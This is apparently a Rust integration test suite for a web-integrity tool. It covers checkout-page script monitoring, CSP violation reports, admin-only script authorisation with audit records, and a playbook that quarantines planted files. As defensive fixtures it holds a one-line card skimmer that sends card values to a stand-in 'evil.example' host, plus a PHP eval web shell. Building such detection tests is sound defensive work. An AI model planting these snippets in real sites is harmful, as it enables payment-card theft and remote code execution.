//! `serve` with `[[integrity.pages]]` against a real local shop: an unauthorised script alerts
//! at every fetch until authorised over the API; a skimmer injected into checkout becomes an
//! alert with its source and hash; a CSP report posted by a real HTTP client becomes a
//! `csp_violation` alert with the client's address (forwarded headers believed from trusted
//! proxies only); the report endpoint refuses what is not a report. The dashboard's page lists
//! the inventories and lets an admin, and nobody else, authorise and revoke scripts, each change
//! in the audit log. And a playbook's `integrity_restore` step puts a planted file into
//! quarantine.

#![allow(clippy::unwrap_used)] // in tests a panic is the failure report

mod support;

use std::io::{BufRead, BufReader, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};

use serde_json::Value;
use support::web::{Session, add_role_users, login};
use support::{Server, TOKEN, client, wait_for};

/// A shop serving whatever its pages map says: `path → (content type, headers, body)`.
type Pages = Arc<Mutex<Vec<(String, String, String)>>>;

/// A minimal HTTP/1.1 server on its own thread: one request per connection.
fn shop(pages: Pages) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut request = String::new();
            if reader.read_line(&mut request).is_err() {
                continue;
            }
            // Skip the headers.
            let mut line = String::new();
            while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
                line.clear();
            }
            let path = request.split_whitespace().nth(1).unwrap_or("/").to_owned();
            let found = pages
                .lock()
                .unwrap()
                .iter()
                .find(|(p, _, _)| *p == path)
                .cloned();
            let response = match found {
                Some((_, headers, body)) => format!(
                    "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n{headers}\r\n{body}",
                    body.len()
                ),
                None => "HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
                    .into(),
            };
            let _ = stream.write_all(response.as_bytes());
        }
    });
    base
}

fn set(pages: &Pages, path: &str, headers: &str, body: &str) {
    let mut p = pages.lock().unwrap();
    p.retain(|(x, _, _)| x != path);
    p.push((path.into(), headers.into(), body.into()));
}

fn checkout(scripts: &str) -> String {
    format!(
        "<html><head>{scripts}</head><body><h1>Checkout</h1><form action=/pay method=post>\
         <input name=card></form></body></html>"
    )
}

fn alerts(server: &Server) -> Vec<Value> {
    server.get_json("/v1/alerts?limit=1000")["items"]
        .as_array()
        .cloned()
        .unwrap_or_default()
}

fn count(server: &Server, rule: &str, script: &str) -> usize {
    alerts(server)
        .iter()
        .filter(|a| a["rule_id"] == rule && a["evidence"]["details"]["script"] == script)
        .count()
}

#[test]
fn payment_pages_are_monitored_and_csp_reports_become_alerts() {
    let pages: Pages = Arc::default();
    let base = shop(pages.clone());
    let html = "content-type: text/html\r\ncontent-security-policy: script-src 'self'\r\n";
    set(&pages, "/js/app.js", "", "document.title='shop';");
    set(
        &pages,
        "/checkout",
        html,
        &checkout("<script src=/js/app.js></script>"),
    );

    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let config = dir.path().join("ensuresec.toml");
    std::fs::write(
        &config,
        format!(
            "[integrity]\nasset = \"shop\"\n\n[[integrity.pages]]\nurl = \"{base}/checkout\"\ninterval = 1\n\n\
             [integrity.page_monitor]\nreminder_seconds = 0\ncsp_reports_per_second = 5\n"
        ),
    )
    .unwrap();
    let server = Server::start(&data, &["--config", config.to_str().unwrap()]);
    server.printed("payment page");
    let app = format!("{base}/js/app.js");

    // Unauthorised, the shop's own script alerts at every fetch.
    wait_for("two unauthorised-script alerts", 30, || {
        (count(&server, "integrity:page_script_unauthorized", &app) >= 2).then_some(())
    });
    let listed = server.get_json("/v1/integrity/pages");
    assert_eq!(listed["items"][0]["scripts"][0]["script"], app);
    assert_eq!(listed["items"][0]["scripts"][0]["authorized"], false);

    // Authorising needs a token and a justification.
    let r = client()
        .post(server.url("/v1/integrity/pages/authorizations"))
        .json(&serde_json::json!({"script": app, "justification": "shop code"}))
        .send()
        .unwrap();
    assert_eq!(r.status(), 401);
    let r = client()
        .post(server.url("/v1/integrity/pages/authorizations"))
        .bearer_auth(TOKEN)
        .json(&serde_json::json!({"script": app, "justification": "  "}))
        .send()
        .unwrap();
    assert_eq!(r.status(), 400, "{}", r.text().unwrap());
    let r: Value = client()
        .post(server.url("/v1/integrity/pages/authorizations"))
        .bearer_auth(TOKEN)
        .json(&serde_json::json!({"script": app, "justification": "the shop's checkout code"}))
        .send()
        .unwrap()
        .json()
        .unwrap();
    assert_eq!(
        r["sha256"],
        ensuresec_integrity::pages::inventory::sha256_hex(b"document.title='shop';")
    );

    // A skimmer injected into checkout.
    set(
        &pages,
        "/js/skim.js",
        "",
        "new Image().src='https://evil.example/?'+card.value",
    );
    set(
        &pages,
        "/checkout",
        html,
        &checkout("<script src=/js/app.js></script><script src=/js/skim.js></script>"),
    );
    let skim = format!("{base}/js/skim.js");
    let added = wait_for("the skimmer's alert", 30, || {
        alerts(&server)
            .into_iter()
            .find(|a| a["rule_id"] == "integrity:page_script_added")
    });
    assert_eq!(added["severity"], "high");
    assert_eq!(added["entity"]["value"], "shop");
    assert_eq!(added["evidence"]["details"]["src"], skim);
    assert_eq!(
        added["evidence"]["details"]["sha256"],
        ensuresec_integrity::pages::inventory::sha256_hex(
            b"new Image().src='https://evil.example/?'+card.value"
        )
    );
    // The skimmer keeps alerting; the authorised script has stopped.
    let app_alerts = count(&server, "integrity:page_script_unauthorized", &app);
    wait_for("two more skimmer alerts", 30, || {
        (count(&server, "integrity:page_script_unauthorized", &skim) >= 2).then_some(())
    });
    assert_eq!(
        count(&server, "integrity:page_script_unauthorized", &app),
        app_alerts,
        "an authorised script raises nothing more"
    );

    // A browser's CSP report, both formats, without a token.
    // Without trusted proxies, a forwarded address is not believed.
    let r = client()
        .post(server.url("/v1/integrity/csp-report"))
        .header("content-type", "application/csp-report")
        .header("x-forwarded-for", "198.51.100.7")
        .body(format!(
            r#"{{"csp-report":{{"document-uri":"{base}/checkout","blocked-uri":"https://evil.example/x.js","effective-directive":"script-src-elem","original-policy":"script-src 'self'","disposition":"enforce"}}}}"#
        ))
        .send()
        .unwrap();
    assert_eq!(r.status(), 204);
    let r = client()
        .post(server.url("/v1/integrity/csp-report"))
        .header("content-type", "application/reports+json")
        .body(format!(
            r#"[{{"type":"csp-violation","url":"{base}/checkout","body":{{"documentURL":"{base}/checkout","blockedURL":"inline","effectiveDirective":"script-src-elem","disposition":"report","sample":"steal()"}}}}]"#
        ))
        .send()
        .unwrap();
    assert_eq!(r.status(), 204);
    let violations = wait_for("two csp_violation alerts", 30, || {
        let v: Vec<Value> = alerts(&server)
            .into_iter()
            .filter(|a| a["rule_id"] == "integrity:csp_violation")
            .collect();
        (v.len() >= 2).then_some(v)
    });
    assert!(
        violations.iter().any(
            |a| a["evidence"]["blocked_uri"] == "https://evil.example/x.js"
                && a["severity"] == "medium"
                && a["entity"]["value"] == "shop"
        ),
        "{violations:?}"
    );
    assert!(
        violations
            .iter()
            .any(|a| a["evidence"]["sample"] == "steal()")
    );
    assert!(
        violations
            .iter()
            .all(|a| a["evidence"]["client_ip"] == "127.0.0.1"),
        "{violations:?}"
    );

    // What is not a report is refused, and a flood is shed.
    let r = client()
        .post(server.url("/v1/integrity/csp-report"))
        .header("content-type", "text/plain")
        .body("hello")
        .send()
        .unwrap();
    assert_eq!(r.status(), 415);
    let r = client()
        .post(server.url("/v1/integrity/csp-report"))
        .header("content-type", "application/csp-report")
        .body(vec![b' '; 70_000])
        .send()
        .unwrap();
    assert!(matches!(r.status().as_u16(), 413 | 429), "{}", r.status());
    let statuses: Vec<u16> = (0..40)
        .map(|_| {
            client()
                .post(server.url("/v1/integrity/csp-report"))
                .header("content-type", "application/csp-report")
                .body("{}")
                .send()
                .unwrap()
                .status()
                .as_u16()
        })
        .collect();
    assert!(statuses.contains(&429), "{statuses:?}");
    assert!(
        statuses.iter().all(|s| *s == 400 || *s == 429),
        "{statuses:?}"
    );
}

/// The `csp_violation` alert whose report blocked `blocked`, once it is there.
fn violation(server: &Server, blocked: &str) -> Value {
    wait_for(blocked, 30, || {
        alerts(server).into_iter().find(|a| {
            a["rule_id"] == "integrity:csp_violation" && a["evidence"]["blocked_uri"] == blocked
        })
    })
}

#[test]
fn csp_reports_carry_the_client_address_forwarded_by_trusted_proxies_only() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("ensuresec.toml");
    std::fs::write(&config, "[server]\ntrusted_proxies = [\"127.0.0.1/32\"]\n").unwrap();
    let server = Server::start(
        &dir.path().join("data"),
        &["--config", config.to_str().unwrap()],
    );
    let report = |from: &str, forwarded: &str, blocked: &str| {
        let r = reqwest::blocking::Client::builder()
            .local_address(from.parse::<std::net::IpAddr>().unwrap())
            .build()
            .unwrap()
            .post(server.url("/v1/integrity/csp-report"))
            .header("content-type", "application/csp-report")
            .header("x-forwarded-for", forwarded)
            .body(format!(
                r#"{{"csp-report":{{"document-uri":"https://shop.example/checkout","blocked-uri":"{blocked}","effective-directive":"script-src-elem"}}}}"#
            ))
            .send()
            .unwrap();
        assert_eq!(r.status(), 204);
    };
    // Through the trusted proxy: the first untrusted hop from the right is the browser.
    report(
        "127.0.0.1",
        "203.0.113.50, 198.51.100.7",
        "https://evil.example/a.js",
    );
    // From another peer, the header is the sender's word only: the connection's address counts.
    report("127.0.0.2", "198.51.100.99", "https://evil.example/b.js");
    let a = violation(&server, "https://evil.example/a.js");
    assert_eq!(a["evidence"]["client_ip"], "198.51.100.7", "{a}");
    let b = violation(&server, "https://evil.example/b.js");
    assert_eq!(b["evidence"]["client_ip"], "127.0.0.2", "{b}");
}

/// The `<tr>` of a script on the payment-pages page.
fn script_row<'a>(page: &'a str, key: &str) -> &'a str {
    let start = page
        .find(&format!("<tr data-script=\"{key}\""))
        .unwrap_or_else(|| panic!("no row for {key} in {page}"));
    let len = page[start..].find("</tr>").unwrap();
    &page[start..start + len]
}

/// The `integrity_script_authorization` records of the audit log.
fn authorization_records(server: &Server) -> Vec<Value> {
    support::ledger_entries(server)
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["record"]["kind"] == "integrity_script_authorization")
        .map(|e| e["record"]["record"].clone())
        .collect()
}

/// Whether the API lists `script` as authorised.
fn api_authorized(server: &Server, script: &str) -> bool {
    server.get_json("/v1/integrity/pages")["items"][0]["scripts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["script"] == script)
        .unwrap()["authorized"]
        == true
}

#[test]
fn the_dashboard_page_authorises_and_revokes_scripts_for_admins_only() {
    let pages: Pages = Arc::default();
    let base = shop(pages.clone());
    let app_code = "document.title='shop';";
    set(&pages, "/js/app.js", "", app_code);
    set(
        &pages,
        "/checkout",
        "content-type: text/html\r\nx-frame-options: DENY\r\n",
        "<html><head><script src=/js/app.js></script><script>window.tag=1</script></head>\
         <body><iframe src=https://psp.example/frame></iframe><form action=/pay method=post>\
         <input name=card></form></body></html>",
    );
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    add_role_users(&data);
    let config = dir.path().join("ensuresec.toml");
    std::fs::write(
        &config,
        format!("[[integrity.pages]]\nurl = \"{base}/checkout\"\ninterval = 3600\n"),
    )
    .unwrap();
    let server = Server::start(&data, &["--config", config.to_str().unwrap()]);
    let app = format!("{base}/js/app.js");
    let inline = format!(
        "inline:{}",
        ensuresec_integrity::pages::inventory::sha256_hex(b"window.tag=1")
    );
    let admin = login(&server, "admin1", "admin password 123");
    let page = |who: &Session| {
        let r = who.get(&server, "/ui/integrity");
        assert_eq!(r.status(), 200);
        r.text().unwrap()
    };

    // The inventory, with both scripts flagged as unauthorised.
    let listed = wait_for("the page's first fetch", 30, || {
        Some(page(&admin)).filter(|p| p.contains("data-script="))
    });
    for key in [&app, &inline] {
        let row = script_row(&listed, key);
        assert!(row.contains("data-authorized=\"false\""), "{row}");
        assert!(row.contains("NOT authorised"), "{row}");
        assert!(row.contains("action=\"/ui/integrity/authorize\""), "{row}");
    }
    assert!(listed.contains("2 of 2 scripts not authorised"), "{listed}");
    assert!(
        listed.contains(&format!("post <code>{base}/pay</code>")),
        "{listed}"
    );
    assert!(
        listed.contains("<code>https://psp.example/frame</code>"),
        "{listed}"
    );
    assert!(
        listed.contains("<th>x-frame-options</th><td class=\"wrap\"><code>DENY</code>"),
        "{listed}"
    );
    assert!(listed.contains("nav") && listed.contains("href=\"/ui/integrity\""));

    // A viewer sees the page without forms, and a forged POST with its own token is refused;
    // partners do not see it at all.
    let viewer = login(&server, "viewer1", "viewer password 123");
    let seen = page(&viewer);
    assert!(script_row(&seen, &app).contains("NOT authorised"));
    assert!(!seen.contains("/ui/integrity/authorize"), "{seen}");
    let sha = ensuresec_integrity::pages::inventory::sha256_hex(app_code.as_bytes());
    // The authorise form for `app`, as the page sends it.
    let authorize = |who: &Session, token: &str, justification: &str| {
        who.post(
            &server,
            "/ui/integrity/authorize",
            &[
                ("csrf", token),
                ("script", app.as_str()),
                ("sha256", sha.as_str()),
                ("justification", justification),
            ],
        )
    };
    let viewer_csrf = viewer.csrf(&server);
    let reason = "the shop's own checkout code";
    assert_eq!(authorize(&viewer, &viewer_csrf, reason).status(), 403);
    let partner = login(&server, "courier", "partner password 123");
    assert_eq!(partner.get(&server, "/ui/integrity").status(), 403);

    // The admin's own POST without the session's token is refused too.
    assert_eq!(authorize(&admin, &"0".repeat(64), reason).status(), 403);

    // A justification is required, and bounded.
    let csrf = admin.csrf(&server);
    let too_long = "x".repeat(2001);
    for (justification, says) in [
        ("", "justification"),
        ("   ", "justification"),
        (too_long.as_str(), "2000"),
    ] {
        let r = authorize(&admin, &csrf, justification);
        assert_eq!(r.status(), 400);
        let text = r.text().unwrap();
        assert!(text.contains(says), "{text}");
    }
    assert!(!api_authorized(&server, &app));
    assert!(authorization_records(&server).is_empty());

    // Authorised from the page: listed as such, over the API too, and in the audit log.
    let r = authorize(
        &admin,
        &csrf,
        "The shop checkout code, reviewed in change 42",
    );
    assert_eq!(r.status(), 303);
    assert_eq!(r.headers()["location"], "/ui/integrity");
    let after = page(&admin);
    let row = script_row(&after, &app);
    assert!(row.contains("data-authorized=\"true\""), "{row}");
    assert!(row.contains("by user:admin1"), "{row}");
    assert!(
        row.contains("The shop checkout code, reviewed in change 42"),
        "{row}"
    );
    assert!(row.contains("action=\"/ui/integrity/revoke\""), "{row}");
    assert!(script_row(&after, &inline).contains("data-authorized=\"false\""));
    assert!(after.contains("1 of 2 scripts not authorised"), "{after}");
    assert!(api_authorized(&server, &app));
    let records = authorization_records(&server);
    assert_eq!(records.len(), 1, "{records:?}");
    assert_eq!(records[0]["action"], "authorize");
    assert_eq!(records[0]["authorization"]["script"], app.as_str());
    assert_eq!(records[0]["authorization"]["sha256"], sha.as_str());
    assert_eq!(records[0]["authorization"]["by"], "user:admin1");
    assert_eq!(
        records[0]["authorization"]["justification"],
        "The shop checkout code, reviewed in change 42"
    );

    // A viewer cannot revoke it; the admin can, once.
    let revoke = |who: &Session, token: &str| {
        who.post(
            &server,
            "/ui/integrity/revoke",
            &[("csrf", token), ("script", app.as_str())],
        )
        .status()
    };
    assert_eq!(revoke(&viewer, &viewer_csrf), 403);
    assert!(api_authorized(&server, &app));
    assert_eq!(revoke(&admin, &csrf), 303);
    assert!(script_row(&page(&admin), &app).contains("data-authorized=\"false\""));
    assert!(!api_authorized(&server, &app));
    assert_eq!(revoke(&admin, &csrf), 404);
    let records = authorization_records(&server);
    assert_eq!(records.len(), 2, "{records:?}");
    assert_eq!(records[1]["action"], "revoke");
    assert_eq!(records[1]["script"], app.as_str());
    assert_eq!(records[1]["by"], "user:admin1");
}

#[test]
fn a_playbook_restores_the_web_root() {
    let support::WebRoot { dir, www, data } = support::web_root_with_baseline();
    let playbook = dir.path().join("restore.yaml");
    std::fs::write(
        &playbook,
        "playbooks:\n  - id: restore-web-root\n    title: Put the web root back\n    trigger:\n      rules: [\"integrity:file_created\", \"integrity:malicious_content\"]\n    steps:\n      - id: restore\n        integrity_restore: {}\n",
    )
    .unwrap();
    let config = dir.path().join("ensuresec.toml");
    std::fs::write(
        &config,
        format!(
            "[integrity]\nroot = \"{}\"\nasset = \"web-1\"\nscan_interval_seconds = 0\n\n\
             [respond]\ndefault_playbooks = false\nplaybook_files = [\"{}\"]\n",
            www.display(),
            playbook.display()
        ),
    )
    .unwrap();
    let server = Server::start(&data, &["--config", config.to_str().unwrap()]);
    server.printed("for unplanned changes");

    std::fs::write(www.join("shell.php"), "<?php @eval($_POST['z']);").unwrap();
    wait_for("the planted file to be quarantined", 30, || {
        (!www.join("shell.php").exists()).then_some(())
    });
    assert_eq!(
        std::fs::read_to_string(www.join("index.php")).unwrap(),
        "<?php echo 'shop';\n"
    );
    let quarantined = walk(&data.join("integrity").join("quarantine"));
    assert!(
        quarantined.iter().any(|p| p.ends_with("shell.php")),
        "{quarantined:?}"
    );
    drop(server);
}

fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    if let Ok(entries) = std::fs::read_dir(dir) {
        for e in entries.flatten() {
            let p = e.path();
            if p.is_dir() {
                out.extend(walk(&p));
            } else {
                out.push(p);
            }
        }
    }
    out
}
